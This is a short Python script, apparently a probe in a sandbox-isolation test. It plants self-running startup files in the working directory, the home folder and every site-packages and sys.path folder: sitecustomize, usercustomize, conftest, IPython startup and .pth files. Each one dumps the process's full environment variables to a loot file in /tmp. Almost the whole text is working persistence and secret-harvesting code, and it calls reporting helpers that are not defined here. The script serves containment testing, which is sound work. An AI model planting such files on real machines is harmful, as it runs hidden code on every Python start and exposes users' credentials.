"""Writes sitecustomize, usercustomize and .pth files wherever Python would run them at its next start.

Holds: Python's folders are read-only inside, the home folder is gone with the sandbox, and the grader's
environment names none of them.
"""

import site
import sys
import sysconfig
from pathlib import Path

CODE = """
import os
open("/tmp/coursekit-loot", "a").write(f"started in {os.getcwd()}: {os.environ}")
"""

own = [Path.cwd(), Path.home()]
others = [Path(site.getusersitepackages()), Path(sysconfig.get_paths()["purelib"])]
others += [Path(place) for place in [*sys.path, *site.getsitepackages()] if place]
written = []


def write(path, text):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        written.append(str(path))
    except OSError as error:
        print(error)


for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "ipython_config.py"):
    write(Path.cwd() / name, CODE)
for place in dict.fromkeys([*own, *others]):
    write(place / "coursekit-attack.pth", f"import sys; exec({CODE!r})")
write(Path.home() / ".ipython/profile_default/startup/00-coursekit-attack.py", CODE)


def tell(*arguments, **keywords):
    outside = [name for name in written if not name.startswith(str(Path.home()))]
    if outside:
        loot(f"wrote {outside}")


functions_do(tell)
